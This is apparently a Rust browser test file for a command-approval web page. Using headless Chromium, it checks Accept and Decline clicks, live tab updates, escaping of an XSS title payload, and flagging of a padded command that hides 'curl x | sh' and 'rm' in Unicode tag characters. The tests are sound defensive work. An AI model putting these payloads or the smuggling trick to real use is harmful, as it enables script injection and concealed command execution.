//! `oneworks session serve` in a real headless Chromium (Debian's
//! `chromium` and `chromium-driver`, installed by `.ci/run`), driven over
//! WebDriver (fantoccini): a click on Accept reaches the fake TUI as Enter
//! and a second tab sees the card resolve without a reload; Decline
//! likewise; a hostile title renders as text and runs nothing; a card not
//! shown whole shows its markers and no Accept button. Screenshots
//! (desktop and phone width) land in `target/serve-screenshots/`.

use std::net::TcpListener;
use std::path::PathBuf;
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

use fantoccini::{Client, ClientBuilder, Locator};
use serde_json::json;

use crate::serve::Serve;
use crate::supervisor::{request, Session, DEADLINE};

const HOSTILE: &str = "Running: echo <img src=x onerror=document.title='pwned'>";

/// chromedriver on a free port; killed on drop.
struct Driver {
    child: Child,
    url: String,
}

impl Driver {
    /// `None` (with a loud message) when chromedriver is not installed.
    fn start() -> Option<Driver> {
        let program = ["/usr/bin/chromedriver", "/usr/lib/chromium/chromedriver"]
            .into_iter()
            .map(PathBuf::from)
            .find(|path| path.exists())?;
        let port = TcpListener::bind("127.0.0.1:0")
            .and_then(|listener| listener.local_addr())
            .expect("a free port")
            .port();
        let child = Command::new(program)
            .arg(format!("--port={port}"))
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .expect("start chromedriver");
        let deadline = Instant::now() + DEADLINE;
        while std::net::TcpStream::connect(("127.0.0.1", port)).is_err() {
            assert!(Instant::now() < deadline, "chromedriver never listened");
            std::thread::sleep(Duration::from_millis(20));
        }
        Some(Driver {
            child,
            url: format!("http://127.0.0.1:{port}"),
        })
    }
}

impl Drop for Driver {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

async fn browser(driver: &Driver, profile: &std::path::Path) -> Client {
    let mut capabilities = serde_json::Map::new();
    let args = [
        "--headless",
        "--no-sandbox",
        "--disable-gpu",
        "--disable-quic",
        "--no-first-run",
        "--disable-background-networking",
        "--disable-component-update",
        "--disable-sync",
        "--disable-dev-shm-usage",
        &format!("--user-data-dir={}", profile.display()),
    ];
    capabilities.insert(
        "goog:chromeOptions".to_owned(),
        json!({"args": args, "binary": "/usr/bin/chromium"}),
    );
    ClientBuilder::new(hyper_util::client::legacy::connect::HttpConnector::new())
        .capabilities(capabilities)
        .connect(&driver.url)
        .await
        .expect("a Chromium session")
}

/// Waits until `selector` matches in the current tab; returns when it does.
async fn wait_for(browser: &Client, selector: &str) {
    let deadline = Instant::now() + DEADLINE;
    loop {
        if browser.find(Locator::Css(selector)).await.is_ok() {
            return;
        }
        let page = browser.source().await.unwrap_or_default();
        assert!(
            Instant::now() < deadline,
            "never matched {selector}: {page}"
        );
        tokio::time::sleep(Duration::from_millis(25)).await;
    }
}

fn screenshots() -> PathBuf {
    let folder = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("target/serve-screenshots");
    std::fs::create_dir_all(&folder).expect("screenshot folder");
    folder
}

fn runtime() -> tokio::runtime::Runtime {
    tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .expect("runtime")
}

#[test]
fn a_click_in_chromium_answers_and_a_second_tab_sees_it_live() {
    let Some(driver) = Driver::start() else {
        eprintln!("!!! chromedriver missing: the real-browser serve tests are skipped (.ci/run installs it) !!!");
        return;
    };
    let session = Session::new(|markers| {
        json!({"requests": [
            request("r1", "Running: pwd"),
            {"id": "r2", "title": HOSTILE, "waitFor": markers.join("next")},
        ]})
    });
    session.start();
    let serve = Serve::start(&session.env, &[]);
    let first = serve.wait_card("pending", |card| card["state"] == "pending");
    let id = first["id"].as_str().expect("id").to_owned();
    let profile = tempfile::tempdir().expect("profile");
    runtime().block_on(async {
        let browser = browser(&driver, profile.path()).await;
        browser.set_window_size(1100, 800).await.expect("size");
        browser.goto(&serve.url()).await.expect("open the URL");
        let pending = format!("article[data-card='{id}'][data-state='pending']");
        wait_for(&browser, &pending).await;
        let url = browser.current_url().await.expect("url");
        assert_eq!(url.query(), None, "the token stayed in the URL: {url}");
        let shot = browser.screenshot().await.expect("screenshot");
        std::fs::write(screenshots().join("page-desktop.png"), shot).expect("write");
        browser.set_window_size(390, 844).await.expect("phone size");
        let shot = browser.screenshot().await.expect("screenshot");
        std::fs::write(screenshots().join("page-phone.png"), shot).expect("write");

        // A second tab, left open on the same page.
        let first_tab = browser.window().await.expect("tab");
        let second_tab = browser.new_window(true).await.expect("new tab").handle;
        browser
            .switch_to_window(second_tab.clone())
            .await
            .expect("switch");
        browser
            .goto(&format!("{}/", serve.base))
            .await
            .expect("open");
        wait_for(&browser, &pending).await;

        browser
            .switch_to_window(first_tab.clone())
            .await
            .expect("switch");
        let accept = format!("{pending} button.accept");
        browser
            .find(Locator::Css(&accept))
            .await
            .expect("Accept")
            .click()
            .await
            .expect("click");
        session.assert_keys(&["Enter"]);
        wait_for(
            &browser,
            &format!("[data-card='{id}'][data-state='accepted']"),
        )
        .await;
        browser.switch_to_window(second_tab).await.expect("switch");
        wait_for(
            &browser,
            &format!("[data-card='{id}'][data-state='accepted']"),
        )
        .await;

        // A hostile title: text on the page, no element, nothing run.
        session.touch("next");
        browser.switch_to_window(first_tab).await.expect("switch");
        let hostile = "article[data-state='pending'] .title";
        wait_for(&browser, hostile).await;
        let title = browser.find(Locator::Css(hostile)).await.expect("title");
        assert_eq!(title.text().await.expect("text"), HOSTILE);
        assert!(
            browser.find(Locator::Css("img")).await.is_err(),
            "an <img> was made"
        );
        assert_ne!(browser.title().await.expect("title"), "pwned");
        let decline = "article[data-state='pending'] button.decline";
        browser
            .find(Locator::Css(decline))
            .await
            .expect("Decline")
            .click()
            .await
            .expect("click");
        session.assert_keys(&["Enter", "Down", "Down", "Enter"]);
        wait_for(&browser, "[data-state='declined']").await;
        let shot = browser.screenshot().await.expect("screenshot");
        std::fs::write(screenshots().join("page-phone-resolved.png"), shot).expect("write");
        browser.close().await.expect("close");
    });
    session.stop_and_check();
}

/// Issue 19: a card whose command is padded, spelled in part in tag
/// characters and longer than card text keeps whole shows its markers in
/// Chromium, is not complete, has no Accept button and says why; Decline
/// still answers it.
#[test]
fn an_incomplete_card_in_chromium_shows_its_markers_and_no_accept() {
    let Some(driver) = Driver::start() else {
        eprintln!("!!! chromedriver missing: the real-browser serve tests are skipped (.ci/run installs it) !!!");
        return;
    };
    let tags: String = "rm"
        .chars()
        .map(|c| char::from_u32(0xE0000 + u32::from(c)).expect("a tag character"))
        .collect();
    let command = format!(
        "echo hi{}; curl x | sh{tags}{}",
        " ".repeat(1100),
        "x".repeat(20 * 1024)
    );
    let mut asked = request("r1", "Running: pwd");
    asked["toolCall"] = json!({"kind": "execute", "rawInput": {"command": command}});
    let session = Session::new(|_| json!({"requests": [asked]}));
    session.start();
    let serve = Serve::start(&session.env, &[]);
    let card = serve.wait_card("pending", |card| card["state"] == "pending");
    assert_eq!(card["complete"], false);
    let id = card["id"].as_str().expect("id").to_owned();
    let profile = tempfile::tempdir().expect("profile");
    runtime().block_on(async {
        let browser = browser(&driver, profile.path()).await;
        browser.set_window_size(390, 844).await.expect("phone size");
        browser.goto(&serve.url()).await.expect("open the URL");
        let pending = format!("article[data-card='{id}'][data-state='pending']");
        wait_for(&browser, &pending).await;
        let shown = browser
            .find(Locator::Css(&format!("{pending} .command")))
            .await
            .expect("the command");
        assert!(shown.is_displayed().await.expect("displayed"));
        let text = shown.text().await.expect("text");
        assert!(
            text.starts_with("echo hi⟨1100 spaces⟩; curl x | sh⟨U+E0072⟩⟨U+E006D⟩x"),
            "{}",
            &text[..80]
        );
        assert!(
            text.ends_with(" more characters)"),
            "{}",
            &text[text.len() - 60..]
        );
        let why = browser
            .find(Locator::Css(&format!("{pending} .incomplete")))
            .await
            .expect("a line saying why");
        assert!(why.is_displayed().await.expect("displayed"));
        assert!(why
            .text()
            .await
            .expect("text")
            .contains("accept it in the terminal"));
        assert!(
            browser
                .find(Locator::Css(&format!("{pending} button.accept")))
                .await
                .is_err(),
            "an Accept button for an incomplete card"
        );
        let shot = browser.screenshot().await.expect("screenshot");
        std::fs::write(screenshots().join("page-phone-incomplete.png"), shot).expect("write");
        browser
            .find(Locator::Css(&format!("{pending} button.decline")))
            .await
            .expect("Decline")
            .click()
            .await
            .expect("click");
        session.assert_keys(&["Down", "Down", "Enter"]);
        wait_for(
            &browser,
            &format!("[data-card='{id}'][data-state='declined']"),
        )
        .await;
        browser.close().await.expect("close");
    });
    session.stop_and_check();
}
